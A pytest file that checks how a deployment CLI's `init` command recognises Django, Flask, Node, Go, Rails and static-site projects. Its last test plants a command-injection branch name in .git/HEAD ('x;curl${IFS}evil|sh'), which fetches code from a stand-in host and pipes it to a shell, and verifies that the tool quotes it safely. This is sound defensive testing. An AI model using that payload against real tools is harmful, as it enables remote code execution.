"""`pharos init` in small folders of every kind of application."""

import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from control_domain.workflows.document import to_json
from control_domain.workflows.read_workflow import read_workflow
from operator_cli.errors import CommandFailed
from operator_cli.grammar.build_parser import build_parser
from operator_cli.init.recognize import recognize
from operator_cli.init.render import render

_MANAGE = 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\n'
_PIP = "python3 -m pip install --disable-pip-version-check -t vendor -r requirements.txt"
_SERVE = "exec python3 -m http.server --bind 127.0.0.1 --directory"
_INSTALL_GEMS = "bundle config set --local path vendor/bundle && bundle install"
_RAILS = "RAILS_ENV=production RAILS_LOG_TO_STDOUT=1 BOOTSNAP_CACHE_DIR=/tmp/bootsnap "
_PACKAGE = {"name": "x"}


def _package(**members: Any) -> str:
    return json.dumps({**_PACKAGE, **members})


_CASES: dict[str, tuple[dict[str, str], str, list[str], list[str], dict[str, str], str | None, list[str]]] = {
    # name: files, kind, build steps, release steps, processes, health path, words of each hint
    "a fresh Django project": (
        {
            "manage.py": _MANAGE,
            "requirements.txt": "Django==5.2\n",
            "shop/settings.py": 'DATABASES = {"default": {"ENGINE": "django.db.backends.sqlite3", '
            '"NAME": BASE_DIR / "db.sqlite3"}}\n',
            "shop/urls.py": '"""\npath(\'\', views.home)\n"""\nurlpatterns = [path("admin/", admin.site.urls)]\n',
        },
        "Django",
        [_PIP],
        ["PYTHONPATH=vendor python3 manage.py migrate --noinput"],
        {"web": "PYTHONPATH=vendor exec python3 manage.py runserver 127.0.0.1:$PORT --noreload"},
        "/admin/login/",
        ["add gunicorn", "SQLite needs a writable folder"],
    ),
    "Django with gunicorn, Celery and static files": (
        {
            "manage.py": _MANAGE,
            "requirements.txt": "django\ngunicorn\ncelery[redis]\n",
            "shop/settings.py": "STATIC_ROOT = '/srv/app/static'\n",
            "shop/celery.py": "",
            "shop/urls.py": 'urlpatterns = [path("healthz", health), path("", home)]\n',
        },
        "Django",
        [_PIP, "PYTHONPATH=vendor python3 manage.py collectstatic --noinput"],
        ["PYTHONPATH=vendor python3 manage.py migrate --noinput"],
        {
            "web": "PYTHONPATH=vendor exec python3 -m gunicorn --bind 127.0.0.1:$PORT shop.wsgi",
            "worker": "PYTHONPATH=vendor exec python3 -m celery -A shop worker",
        },
        "/healthz",
        [],
    ),
    "Flask": (
        {"requirements.txt": "flask\n", "app.py": 'app = Flask(__name__)\n@app.route("/")\ndef home(): ...\n'},
        "Flask",
        [_PIP],
        [],
        {"web": "PYTHONPATH=vendor exec python3 -m flask --app 'app:app' run --host 127.0.0.1 --port $PORT"},
        "/",
        ["add gunicorn"],
    ),
    "a factory of Flask with gunicorn": (
        {
            "requirements.txt": "flask\ngunicorn\nflask-migrate\n",
            "shop/__init__.py": "import flask\ndef create_app():\n    ...\n",
            "migrations/env.py": "",
        },
        "Flask",
        [_PIP],
        ["PYTHONPATH=vendor python3 -m flask --app shop db upgrade"],
        {"web": "PYTHONPATH=vendor exec python3 -m gunicorn --bind 127.0.0.1:$PORT 'shop:create_app()'"},
        None,
        ["No health path"],
    ),
    "FastAPI by pyproject.toml": (
        {
            "pyproject.toml": '[project]\nname = "x"\ndependencies = ["fastapi[standard]"]\n',
            "shop/main.py": 'api: FastAPI = FastAPI(title="x")\n@api.get("/health")\ndef health(): ...\n',
        },
        "FastAPI",
        ["python3 -m pip install --disable-pip-version-check -t vendor ."],
        [],
        {"web": "PYTHONPATH=vendor exec python3 -m uvicorn --host 127.0.0.1 --port $PORT shop.main:api"},
        "/health",
        [],
    ),
    "FastAPI with poetry": (
        {"pyproject.toml": "[tool.poetry]\n", "poetry.lock": "", "main.py": "app = FastAPI()\n"},
        "FastAPI",
        [],
        [],
        {"web": "exec python3 -m uvicorn --host 127.0.0.1 --port $PORT main:app"},
        None,
        ["needs uvicorn", "No health path", "Dependencies are not installed"],
    ),
    "a Python program": (
        {"app.py": 'port = os.environ["PORT"]\n', "worker.py": ""},
        "Python",
        [],
        [],
        {"web": "exec python3 app.py", "worker": "exec python3 worker.py"},
        None,
        [],
    ),
    "a Python program with uv that reads no port": (
        {"main.py": "listen(80)\n", "uv.lock": "", "pyproject.toml": "[project]\n"},
        "Python",
        [
            "uv export --frozen --no-dev --no-emit-project -o /tmp/requirements.txt && python3 -m pip install "
            "--disable-pip-version-check -t vendor -r /tmp/requirements.txt"
        ],
        [],
        {"web": "PYTHONPATH=vendor exec python3 main.py"},
        None,
        ["main.py does not read PORT", "needs uv"],
    ),
    "a Procfile of a Python application": (
        {
            "requirements.txt": "gunicorn\n",
            "Procfile": "web: gunicorn wsgi --bind 127.0.0.1:$PORT\nrelease: python3 migrate.py\nclock_9: x\n9: y\n",
        },
        "Python",
        [_PIP],
        ["PYTHONPATH=vendor PATH=vendor/bin:$PATH python3 migrate.py"],
        {
            "web": "PYTHONPATH=vendor PATH=vendor/bin:$PATH gunicorn wsgi --bind 127.0.0.1:$PORT",
            "clock-9": "PYTHONPATH=vendor PATH=vendor/bin:$PATH x",
        },
        None,
        ["The process 9 of the Procfile"],
    ),
    "Express": (
        {
            "package.json": _package(dependencies={"express": "5"}, scripts={"start": "node server.js"}),
            "package-lock.json": "{}",
            "server.js": 'app.get("/healthz", ok); app.listen(process.env.PORT)\n',
        },
        "Express",
        ["npm ci"],
        [],
        {"web": "exec npm start"},
        "/healthz",
        [],
    ),
    "Node without dependencies": (
        {"package.json": _package(main="index.js"), "index.js": "listen(3000)\n"},
        "Node",
        [],
        [],
        {"web": "exec node index.js"},
        None,
        ["No file reads PORT"],
    ),
    "Node with TypeScript, Prisma, pnpm and a worker": (
        {
            "package.json": _package(
                dependencies={"fastify": "5", "prisma": "6"},
                scripts={"build": "tsc", "start": "node dist/main.js", "worker": "node dist/worker.js"},
            ),
            "pnpm-lock.yaml": "",
            "src/main.ts": "listen({port: Number(process.env.PORT)})\n",
            "prisma/migrations/1/migration.sql": "",
        },
        "Node",
        ["pnpm install --frozen-lockfile", "pnpm run build"],
        ["npx prisma migrate deploy"],
        {"web": "exec pnpm start", "worker": "exec pnpm run worker"},
        None,
        ["needs pnpm"],
    ),
    "Next.js": (
        {"package.json": _package(dependencies={"next": "16"}, scripts={"build": "next build"}), "yarn.lock": ""},
        "Next.js",
        ["yarn install --frozen-lockfile", "yarn run build"],
        [],
        {"web": "exec node_modules/.bin/next start --hostname 127.0.0.1 --port $PORT"},
        "/",
        ["needs yarn"],
    ),
    "Vite": (
        {"package.json": _package(devDependencies={"vite": "7"}, scripts={"build": "vite build"}), "index.html": ""},
        "Vite",
        ["npm install", "npm run build"],
        [],
        {"web": f"{_SERVE} dist $PORT"},
        "/",
        ["lock file", "client-side router"],
    ),
    "Go at the root": (
        {"go.mod": "module x\n", "main.go": 'package main\nHandleFunc("/healthz", ok)\nGetenv("PORT")\n'},
        "Go",
        ["go build -o bin/web ."],
        [],
        {"web": "exec bin/web"},
        "/healthz",
        [],
    ),
    "Go with several programs": (
        {
            "go.mod": "module x\n",
            "cmd/server/main.go": 'package main\nGetenv("PORT")\n',
            "cmd/worker/main.go": "package main\n",
            "cmd/tool/main.go": "package main\n",
            "main_test.go": "package main\n",
            "x.go": "package x\n",
        },
        "Go",
        ["go build -o bin/web ./cmd/server", "go build -o bin/worker ./cmd/worker"],
        [],
        {"web": "exec bin/web", "worker": "exec bin/worker"},
        None,
        ["Other programs are not built: cmd/tool"],
    ),
    "Rails": (
        {
            "Gemfile": 'gem "rails", "~> 8"\ngem "propshaft"\ngem "sidekiq"\n',
            "config.ru": "",
            "config/database.yml": "",
            "config/routes.rb": 'get "up" => "rails/health#show"\n',
            "package.json": "{}",
            "Dockerfile": "",
        },
        "Rails",
        [_INSTALL_GEMS, f"SECRET_KEY_BASE_DUMMY=1 {_RAILS}bundle exec rails assets:precompile"],
        [f"{_RAILS}bundle exec rails db:prepare"],
        {
            "web": f"{_RAILS}exec bundle exec rails server -b 127.0.0.1 -p $PORT -P /tmp/server.pid",
            "worker": f"{_RAILS}exec bundle exec sidekiq",
        },
        "/up",
        ["SECRET_KEY_BASE", "package.json is not used", "Dockerfile is not used"],
    ),
    "Rack": (
        {"Gemfile": "gem 'puma'\n", "config.ru": 'map("/healthz") { run ok }\n'},
        "Rack",
        [_INSTALL_GEMS],
        [],
        {"web": "RACK_ENV=production exec bundle exec puma -b tcp://127.0.0.1:$PORT"},
        "/healthz",
        [],
    ),
    "a static site": ({"index.html": "hi"}, "static site", [], [], {"web": f"{_SERVE} . $PORT"}, "/", []),
    "a static site in a folder": (
        {"README.md": "", "public/index.html": "hi"},
        "static site",
        [],
        [],
        {"web": f"{_SERVE} public $PORT"},
        "/",
        [],
    ),
    "a Procfile alone": (
        {"Procfile": "web: ./serve # all: 'of' it\n"},
        "Procfile",
        [],
        [],
        {"web": "./serve # all: 'of' it"},
        None,
        ["does not use $PORT"],
    ),
}  # fmt: skip


def _write(folder: Path, files: Mapping[str, str]) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.mark.parametrize("name", _CASES)
def test_an_application_is_recognized(name: str, tmp_path: Path) -> None:
    files, kind, build, release, processes, health, hints = _CASES[name]
    proposal = recognize(_write(tmp_path, files))
    assert proposal is not None
    assert (proposal.kind, proposal.build, proposal.release) == (kind, build, release)
    assert (proposal.processes, proposal.health) == (processes, health)
    assert len(proposal.hints) == len(hints), proposal.hints
    assert all(words in hint for words, hint in zip(hints, proposal.hints, strict=True)), proposal.hints
    # The text means the same to the checker of `pharos workflow check`.
    document = to_json(read_workflow(render(proposal, "main")))
    assert document["build"]["steps"] == build
    assert document["release"]["steps"] == release
    assert {name: one["command"] for name, one in document["processes"].items()} == processes
    assert document["processes"]["web"].get("health", {}).get("path") == health
    assert document["triggers"] == {"push": {"main": "production"}}


def _init(*arguments: str) -> int:
    parsed = build_parser("init").parse_args(["init", *arguments])
    status: int = parsed.run(parsed)
    return status


def test_the_file_is_written_with_the_next_commands(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _write(tmp_path / "My Shop", {"index.html": "hi", ".git/HEAD": "ref: refs/heads/trunk\n"})
    assert _init(str(folder), "--yes") == 0
    printed = capsys.readouterr().out
    assert "Found: static site (index.html)." in printed
    for command in (
        "add . && git -C",
        "project create my-shop",
        "--branch trunk",
        "deploy my-shop/production",
    ):
        assert command in printed
    assert "git init" not in printed
    written = (folder / "pharos.yaml").read_text()
    assert read_workflow(written).triggers.push == {"trunk": "production"}

    # A second run changes nothing without --force.
    (folder / "pharos.yaml").write_text("mine\n")
    with pytest.raises(CommandFailed, match="exists already: nothing was changed"):
        _init(str(folder), "--yes")
    assert (folder / "pharos.yaml").read_text() == "mine\n"
    capsys.readouterr()
    assert _init(str(folder), "--print") == 0
    assert capsys.readouterr().out == written
    assert (folder / "pharos.yaml").read_text() == "mine\n"
    assert _init(str(folder), "--yes", "--force") == 0
    assert (folder / "pharos.yaml").read_text() == written
    capsys.readouterr()
    assert _init(str(folder), "--json", "--print") == 0
    assert json.loads(capsys.readouterr().out)["kind"] == "static site"


@pytest.mark.parametrize(("typed", "status"), [("yes\n", 0), ("\n", 1)])
def test_a_person_at_a_terminal_is_asked(
    typed: str, status: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    leader, follower = os.openpty()
    os.write(leader, typed.encode())
    with os.fdopen(follower) as terminal:
        monkeypatch.setattr("sys.stdin", terminal)
        assert _init(str(_write(tmp_path, {"index.html": "hi"}))) == status
    os.close(leader)
    assert (tmp_path / "pharos.yaml").exists() == (status == 0)


@pytest.mark.parametrize(
    ("files", "message"),
    [
        ({"README.md": ""}, "No application was recognized"),
        ({"go.mod": "module x\n"}, "How to start the application was not recognized"),
        ({"package.json": "[" * 9000}, "How to start the application was not recognized"),
        ({"Procfile": "web: " + "x" * 5000}, "no valid workflow"),
    ],
)
def test_nothing_is_written_for_an_unknown_application(
    files: dict[str, str], message: str, tmp_path: Path
) -> None:
    with pytest.raises(CommandFailed, match=message):
        _init(str(_write(tmp_path, files)), "--yes")
    assert not (tmp_path / "pharos.yaml").exists()


def test_a_link_is_replaced_and_not_followed(tmp_path: Path) -> None:
    folder = _write(tmp_path / "app", {"index.html": "hi"})
    other = tmp_path / "other"
    (folder / "pharos.yaml").symlink_to(other)
    with pytest.raises(CommandFailed, match="exists already"):
        _init(str(folder))
    assert _init(str(folder), "--force", "--yes") == 0
    assert not other.exists()


def test_hostile_folders_neither_block_nor_reach_the_printed_commands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("Django==5.2\n")
    folder = tmp_path / "app"
    (folder / ".git").mkdir(parents=True)
    (folder / "index.html").touch()
    (folder / "requirements.txt").symlink_to(outside)
    head = folder / ".git" / "HEAD"
    arguments = build_parser("init").parse_args(["init", str(folder), "--yes", "--force"])
    head.write_text("ref: refs/heads/x;curl${IFS}evil|sh\n")
    assert arguments.run(arguments) == 0
    output = capsys.readouterr().out
    assert "--branch 'x;curl${IFS}evil|sh' " in output and "Django" not in output
    head.unlink()
    os.mkfifo(head)
    assert arguments.run(arguments) == 0
    assert "--branch main " in capsys.readouterr().out
